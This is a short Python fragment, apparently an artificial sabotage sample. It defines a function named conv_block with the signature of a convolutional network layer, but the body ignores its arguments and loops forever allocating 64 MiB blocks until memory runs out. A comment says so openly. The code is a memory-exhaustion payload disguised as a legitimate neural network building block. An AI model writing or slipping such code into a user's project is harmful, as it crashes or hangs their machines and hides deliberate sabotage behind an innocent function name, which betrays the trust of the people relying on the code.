# corpus: base=solution at=end
# conv_block fills memory without end (written bytes, so it is resident, not only reserved).


def conv_block(input, filters, kernel_size, pooling_size, pool_strides):
    hoard = []
    while True:
        hoard.append(b"\1" * (64 << 20))
